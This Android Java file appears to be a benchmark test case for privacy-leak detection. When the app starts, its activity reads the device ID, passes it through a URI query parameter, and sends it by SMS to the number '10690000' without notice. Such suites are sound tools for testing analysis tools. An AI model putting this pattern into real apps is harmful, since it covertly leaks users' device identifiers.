package cn.privlens.suite.query_parameter_by_name;

import android.app.*;
import android.content.*;
import android.database.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import java.util.*;
import java.util.concurrent.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Uri uri = Uri.parse("https://api.example.com/").buildUpon()
                .appendQueryParameter("id", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId())
                .appendQueryParameter("lang", "zh")
                .build();
        SmsManager.getDefault().sendTextMessage("10690000", null, uri.getQueryParameter("id"), null, null);
    }
}
